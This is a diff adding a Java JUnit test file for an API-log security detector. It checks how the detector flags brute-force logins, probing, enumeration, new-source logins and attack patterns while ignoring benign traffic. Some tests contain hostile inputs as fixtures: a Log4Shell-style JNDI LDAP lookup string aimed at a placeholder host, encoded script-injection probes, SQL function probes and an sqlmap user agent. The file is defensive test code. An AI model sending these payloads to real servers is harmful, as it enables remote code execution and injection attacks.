@@ -1,0 +1,475 @@
+package io.apilog.security;
+
+import static io.apilog.security.Watched.HOME;
+import static io.apilog.security.Watched.IMAGE;
+import static io.apilog.security.Watched.LOGIN;
+import static io.apilog.security.Watched.QUERY;
+import static io.apilog.security.Watched.USER;
+import static io.apilog.security.Watched.from;
+import static org.assertj.core.api.Assertions.assertThat;
+
+import io.apilog.part.SourceNames;
+import io.apilog.request.Asking;
+import io.apilog.request.Endpoint;
+import io.apilog.request.HttpMethod;
+import io.apilog.state.SectionReader;
+import java.time.Duration;
+import java.util.List;
+import java.util.Map;
+import org.junit.jupiter.api.Nested;
+import org.junit.jupiter.api.Test;
+
+/** Who should not be here is an event; who is only in a hurry, unlucky or many behind one address is none. */
+class SecurityPartTest {
+    private static final String GUESSER = "192.0.2.66";
+
+    private final Watched log = new Watched();
+
+    private static Asking refused(double second) {
+        return from(GUESSER, second)
+                .target("/login")
+                .endpoint(LOGIN)
+                .method(HttpMethod.POST)
+                .answered(401);
+    }
+
+    private static Asking missing(String client, double second, String path) {
+        return from(client, second).target(path).endpoint(Endpoint.UNMATCHED).answered(404);
+    }
+
+    @Nested
+    class BruteForce {
+        @Test
+        void five_refused_logins_in_a_row_are_one_event_and_so_are_five_hundred() {
+            for (int i = 0; i < 4; i++) {
+                log.see(refused(i));
+            }
+            assertThat(log.events()).isEmpty();
+            for (int i = 4; i < 200; i++) {
+                log.see(refused(i));
+            }
+            assertThat(log.events()).containsEntry("brute_force", 1);
+        }
+
+        @Test
+        void one_that_goes_on_is_an_event_again_after_five_minutes() {
+            for (int i = 0; i < 400; i++) {
+                log.see(refused(i));
+            }
+            assertThat(log.events()).containsEntry("brute_force", 2);
+        }
+
+        @Test
+        void names_that_are_tried_from_one_address_are_of_one_client() {
+            for (int i = 0; i < 6; i++) {
+                log.see(refused(i).user("name" + i));
+            }
+            assertThat(log.events()).containsEntry("brute_force", 1);
+        }
+
+        @Test
+        void a_page_whose_token_has_expired_is_refused_at_many_endpoints_at_once_and_is_none() {
+            for (int i = 0; i < 20; i++) {
+                Endpoint endpoint = new Endpoint(10 + i, "/api/part" + i, io.apilog.request.Rule.PATH);
+                log.see(from(GUESSER, 0.01 * i)
+                        .target("/api/part" + i)
+                        .endpoint(endpoint)
+                        .answered(401));
+            }
+            assertThat(log.events()).isEmpty();
+        }
+
+        @Test
+        void one_that_polls_where_it_was_let_in_before_is_none() {
+            Asking polling = from(GUESSER, 0).target("/graphql").endpoint(QUERY).method(HttpMethod.POST);
+            log.see(polling);
+            for (int i = 1; i < 600; i++) {
+                log.see(polling.atSecond(Watched.NOW + 6 * i).answered(401));
+            }
+            assertThat(log.events()).isEmpty();
+        }
+
+        @Test
+        void an_office_behind_one_address_mostly_gets_in_and_is_none() {
+            for (int i = 0; i < 300; i++) {
+                Asking asking =
+                        from(GUESSER, i).target("/api/session").endpoint(LOGIN).method(HttpMethod.PUT);
+                log.see(asking.answered(i % 3 == 0 ? 401 : 200));
+            }
+            assertThat(log.events()).isEmpty();
+        }
+
+        @Test
+        void pictures_that_other_sites_may_not_show_are_none() {
+            for (int i = 0; i < 50; i++) {
+                log.see(from(GUESSER, i).target("/image/" + i).endpoint(IMAGE).answered(403));
+            }
+            assertThat(log.events()).isEmpty();
+        }
+    }
+
+    @Nested
+    class LoginBurst {
+        @Test
+        void a_form_of_login_that_is_sent_again_and_again_is_one_whatever_is_answered() {
+            for (int i = 0; i < 8; i++) {
+                log.see(refused(i).answered(200));
+            }
+            assertThat(log.events()).containsOnly(Map.entry("login_burst", 1));
+        }
+
+        @Test
+        void people_who_log_in_and_go_on_are_none() {
+            for (int i = 0; i < 100; i++) {
+                log.see(refused(2 * i).answered(302));
+                for (int page = 0; page < 4; page++) {
+                    log.see(from(GUESSER, 2 * i + 0.4 * page).target("/").endpoint(HOME));
+                }
+            }
+            assertThat(log.events()).isEmpty();
+        }
+
+        @Test
+        void an_endpoint_can_be_configured_to_be_one_of_login() {
+            SecuritySettings settings = new SecuritySettings(
+                    5, 5, 10, 3, 50, 100, true, Duration.ofSeconds(10), List.of("/graphql"), false);
+            Watched configured = new Watched(settings);
+            for (int i = 0; i < 8; i++) {
+                configured.see(
+                        from(GUESSER, i).target("/graphql").endpoint(QUERY).method(HttpMethod.POST));
+            }
+            assertThat(configured.events()).containsEntry("login_burst", 1);
+        }
+    }
+
+    @Nested
+    class Probing {
+        @Test
+        void ten_different_paths_that_nothing_is_behind_are_one() {
+            for (int i = 0; i < 10; i++) {
+                log.see(missing(GUESSER, 0.1 * i, "/admin" + i + ".php"));
+            }
+            assertThat(log.events()).containsOnly(Map.entry("probing", 1));
+        }
+
+        @Test
+        void one_path_that_is_asked_for_a_hundred_times_is_none() {
+            for (int i = 0; i < 100; i++) {
+                log.see(missing(GUESSER, 0.1 * i, "/feed?at=" + i));
+            }
+            assertThat(log.events()).isEmpty();
+        }
+
+        @Test
+        void pictures_and_scripts_of_a_broken_page_are_none() {
+            for (int i = 0; i < 100; i++) {
+                log.see(missing(GUESSER, 0.1 * i, "/old/picture" + i + ".PNG?v=2"));
+            }
+            assertThat(log.events()).isEmpty();
+        }
+
+        @Test
+        void a_visitor_of_a_site_with_broken_links_is_none() {
+            for (int i = 0; i < 200; i++) {
+                log.see(missing(GUESSER, i, "/old/" + i));
+                log.see(from(GUESSER, i + 0.3).target("/").endpoint(HOME));
+                log.see(from(GUESSER, i + 0.6).target("/").endpoint(HOME));
+            }
+            assertThat(log.events()).isEmpty();
+        }
+
+        @Test
+        void a_crawler_that_says_so_may_miss_more() {
+            for (int i = 0; i < 30; i++) {
+                log.see(missing(GUESSER, i, "/old/" + i).agent("Mozilla/5.0 (compatible; Googlebot/2.1)"));
+            }
+            assertThat(log.events()).isEmpty();
+        }
+
+        @Test
+        void lines_that_are_no_request_are_one_too() {
+            for (int i = 0; i < 12; i++) {
+                Asking asking = from(GUESSER, 0).endpoint(Endpoint.MALFORMED).answered(400);
+                byte[] rubbish = {3, (byte) i, 7};
+                asking.request().record().malformed.set(rubbish, 0, rubbish.length);
+                log.see(asking);
+            }
+            assertThat(log.events()).containsEntry("probing", 1);
+        }
+    }
+
+    @Nested
+    class Enumeration {
+        private void learn(Endpoint endpoint, int objects) {
+            for (int client = 0; client < 60; client++) {
+                for (int object = 0; object < objects; object++) {
+                    log.see(from("192.0.2." + client, 60 * (client % 7) + 0.1 * object)
+                            .target("/x/" + client + "-" + object)
+                            .endpoint(endpoint));
+                }
+            }
+            for (int client = 0; client < 60; client++) {
+                log.see(from("192.0.2." + client, 600).target("/").endpoint(HOME));
+                log.see(from("192.0.2." + client, 660).target("/x/" + client).endpoint(endpoint));
+            }
+        }
+
+        private void ask(Endpoint endpoint, int objects) {
+            for (int object = 0; object < objects; object++) {
+                log.see(from(GUESSER, 720 + 0.1 * object)
+                        .target("/users/" + object)
+                        .endpoint(endpoint));
+            }
+        }
+
+        @Test
+        void who_is_given_far_more_objects_than_others_is_one() {
+            learn(USER, 2);
+            ask(USER, 200);
+            assertThat(log.events()).containsOnly(Map.entry("enumeration", 1));
+        }
+
+        @Test
+        void where_everybody_is_given_many_nobody_is_one() {
+            learn(IMAGE, 30);
+            ask(IMAGE, 200);
+            assertThat(log.events()).isEmpty();
+        }
+
+        @Test
+        void as_long_as_it_is_not_known_what_is_usual_nobody_is_one() {
+            ask(USER, 200);
+            assertThat(log.events()).isEmpty();
+        }
+
+        @Test
+        void a_crawler_that_says_so_is_none() {
+            learn(USER, 2);
+            for (int object = 0; object < 200; object++) {
+                log.see(from(GUESSER, 720 + 0.1 * object)
+                        .target("/users/" + object)
+                        .endpoint(USER)
+                        .agent("Mozilla/5.0 (compatible; Googlebot/2.1)"));
+            }
+            assertThat(log.events()).isEmpty();
+        }
+
+        @Test
+        void what_was_learned_of_an_endpoint_goes_with_it() {
+            learn(USER, 2);
+            log.vacated(USER);
+            ask(new Endpoint(USER.index(), "/orders/{id}", io.apilog.request.Rule.SHAPE), 200);
+            assertThat(log.events()).isEmpty();
+        }
+    }
+
+    @Nested
+    class AttackPatterns {
+        @Test
+        void one_request_that_says_it_beyond_doubt_is_an_event() {
+            log.see(from(GUESSER, 0)
+                    .target("/?x=$%7Bjndi:ldap://192.0.2.9/a%7D")
+                    .endpoint(HOME));
+            assertThat(log.events()).containsOnly(Map.entry("attack_pattern", 1));
+        }
+
+        @Test
+        void three_different_ones_that_may_are_an_event_and_the_same_one_thrice_is_none() {
+            for (int i = 0; i < 3; i++) {
+                log.see(from(GUESSER, i).target("/?q=%3Cscript%3E").endpoint(HOME));
+            }
+            assertThat(log.events()).isEmpty();
+            log.see(from(GUESSER, 4).target("/?q=%3Cscript%3E1").endpoint(HOME));
+            log.see(from(GUESSER, 5).target("/?q=%3Cscript%3E2").endpoint(HOME));
+            assertThat(log.events()).containsOnly(Map.entry("attack_pattern", 1));
+            assertThat(log.counts("apilog_attack_requests_total")).containsOnly(Map.entry("xss", 5));
+        }
+
+        @Test
+        void functions_of_databases_count_only_where_they_are_refused_and_are_many() {
+            for (int i = 0; i < 40; i++) {
+                log.see(from(GUESSER, i).target("/?f=substring(Name," + i + ")").endpoint(HOME));
+            }
+            assertThat(log.events()).isEmpty();
+            for (int i = 0; i < 40; i++) {
+                log.see(from(GUESSER, 40 + 0.1 * i)
+                        .target("/?f=md5(" + i + ")")
+                        .endpoint(HOME)
+                        .answered(500));
+            }
+            assertThat(log.events()).containsOnly(Map.entry("attack_pattern", 1));
+            assertThat(log.counts("apilog_attack_requests_total")).isEmpty();
+        }
+
+        @Test
+        void a_program_that_calls_itself_a_scanner_is_an_event_at_once() {
+            log.see(from(GUESSER, 0).target("/").endpoint(HOME).agent("sqlmap/1.8#stable (https://sqlmap.org)"));
+            assertThat(log.events()).containsOnly(Map.entry("scanner_agent", 1));
+            assertThat(log.counts("apilog_attack_requests_total")).containsOnly(Map.entry("scanner", 1));
+        }
+    }
+
+    @Nested
+    class NewSource {
+        private static final double DAY = 86_400;
+
+        private void ask(String address, double begin, int requests) {
+            for (int i = 0; i < requests; i++) {
+                log.see(from(address, begin + i)
+                        .target("/users/1")
+                        .endpoint(USER)
+                        .user("billing"));
+            }
+        }
+
+        @Test
+        void a_principal_of_one_network_for_a_day_that_comes_from_another_is_one() {
+            ask("192.0.2.1", 0, 90);
+            ask("192.0.2.77", DAY, 90);
+            ask("203.0.113.5", DAY + 100, 50);
+            assertThat(log.events()).containsOnly(Map.entry("new_source", 1));
+        }
+
+        @Test
+        void one_that_comes_back_to_where_it_was_before_is_none() {
+            for (int day = 0; day < 20; day += 4) {
+                ask("192.0.2.1", day * DAY, 101);
+                ask("192.0.2.1", (day + 1) * DAY + 200, 101);
+                ask("203.0.113.5", (day + 2) * DAY, 101);
+                ask("203.0.113.5", (day + 3) * DAY + 200, 101);
+            }
+            assertThat(log.events()).containsOnly(Map.entry("new_source", 1));
+        }
+
+        @Test
+        void one_that_moves_about_is_none() {
+            for (int i = 0; i < 1_000; i++) {
+                ask(i % 2 == 0 ? "192.0.2.1" : "198.51.100." + i % 200, i * 3_600, 10);
+            }
+            assertThat(log.events()).isEmpty();
+        }
+
+        @Test
+        void one_that_is_refused_from_elsewhere_is_none() {
+            ask("192.0.2.1", 0, 90);
+            ask("192.0.2.1", DAY, 90);
+            for (int i = 0; i < 3; i++) {
+                log.see(from("203.0.113.5", DAY + 100 + i)
+                        .target("/users/1")
+                        .endpoint(USER)
+                        .user("billing")
+                        .answered(403));
+            }
+            assertThat(log.events()).isEmpty();
+        }
+    }
+
+    @Nested
+    class Time {
+        @Test
+        void lines_out_of_order_make_no_event() {
+            for (int i = 0; i < 400; i++) {
+                log.see(refused(30 * i + (i % 2 == 0 ? 25 : 0)));
+            }
+            assertThat(log.events()).isEmpty();
+        }
+
+        @Test
+        void a_clock_that_is_set_back_begins_anew_and_goes_on_finding() {
+            for (int i = 0; i < 4; i++) {
+                log.see(refused(100_000 + i));
+            }
+            log.see(refused(0));
+            assertThat(log.events()).isEmpty();
+            for (int i = 1; i < 6; i++) {
+                log.see(refused(i));
+            }
+            assertThat(log.events()).containsEntry("brute_force", 1);
+        }
+
+        @Test
+        void one_line_from_the_future_makes_no_later_one_an_event() {
+            log.see(refused(1e9));
+            for (int i = 0; i < 100; i++) {
+                log.see(refused(20 * i));
+            }
+            assertThat(log.events()).isEmpty();
+        }
+
+        @Test
+        void lines_without_a_time_are_judged_alone() {
+            for (int i = 0; i < 100; i++) {
+                log.see(refused(0).withoutTime());
+                log.see(missing(GUESSER, 0, "/x" + i).withoutTime());
+            }
+            assertThat(log.events()).isEmpty();
+            log.see(missing(GUESSER, 0, "/$%7Bjndi:ldap:x%7D").withoutTime());
+            assertThat(log.events()).containsOnly(Map.entry("attack_pattern", 1));
+        }
+    }
+
+    @Nested
+    class Shown {
+        @Test
+        void a_client_is_active_for_five_minutes_and_the_log_may_stand_still_meanwhile() {
+            for (int i = 0; i < 10; i++) {
+                log.see(missing(GUESSER, 0.1 * i, "/admin" + i));
+            }
+            assertThat(log.counts("apilog_security_active_sources")).containsOnly(Map.entry("probing", 1));
+            log.nanos += 290_000_000_000L;
+            assertThat(log.counts("apilog_security_active_sources")).containsOnly(Map.entry("probing", 1));
+            log.nanos += 20_000_000_000L;
+            assertThat(log.counts("apilog_security_active_sources")).isEmpty();
+        }
+
+        @Test
+        void events_go_on_over_a_restart() throws Exception {
+            for (int i = 0; i < 10; i++) {
+                log.see(missing(GUESSER, 0.1 * i, "/admin" + i));
+            }
+            byte[] saved = log.part.write(log.part.copy());
+            Watched next = new Watched();
+            next.part.restore(next.part.read(1, new SectionReader(saved)), SourceNames.UNCHANGED);
+            assertThat(next.events()).containsOnly(Map.entry("probing", 1));
+        }
+
+        @Test
+        void offenders_are_pseudonyms_and_a_hundred_of_them() {
+            for (int client = 0; client < 300; client++) {
+                String address = "198.51." + client / 200 + "." + client % 200;
+                for (int i = 0; i < 10; i++) {
+                    log.see(missing(address, client + 0.01 * i, "/admin" + i));
+                }
+            }
+            assertThat(log.part.offenders()).hasSize(100).allSatisfy(offender -> {
+                assertThat(offender.pseudonym()).matches("client-[0-9a-f]{12}");
+                assertThat(offender.found()).containsExactly(SecurityKind.PROBING);
+            });
+        }
+
+        @Test
+        void answers_to_nobody_count_where_there_was_always_a_principal() {
+            Watched counting = new Watched(
+                    new SecuritySettings(5, 5, 10, 3, 50, 100, true, Duration.ofSeconds(10), List.of(), true));
+            for (int i = 0; i < 60; i++) {
+                counting.see(from(GUESSER, i).target("/users/1").endpoint(USER).user("alice"));
+                counting.see(from(GUESSER, i).target("/").endpoint(HOME));
+            }
+            counting.see(from(GUESSER, 61).target("/users/1").endpoint(USER));
+            counting.see(from(GUESSER, 62).target("/users/1").endpoint(USER).answered(401));
+            assertThat(counting.counts("apilog_unauthenticated_success_total"))
+                    .containsOnly(Map.entry("/users/{id}", 1));
+        }
+    }
+
+    @Test
+    void a_threshold_of_0_switches_a_kind_off() {
+        Watched off =
+                new Watched(new SecuritySettings(0, 0, 0, 0, 0, 0, false, Duration.ofSeconds(10), List.of(), false));
+        for (int i = 0; i < 50; i++) {
+            off.see(refused(i).agent("sqlmap/1.8"));
+            off.see(missing(GUESSER, i, "/$%7Bjndi:ldap:" + i + "%7D"));
+        }
+        assertThat(off.events()).isEmpty();
+    }
+}
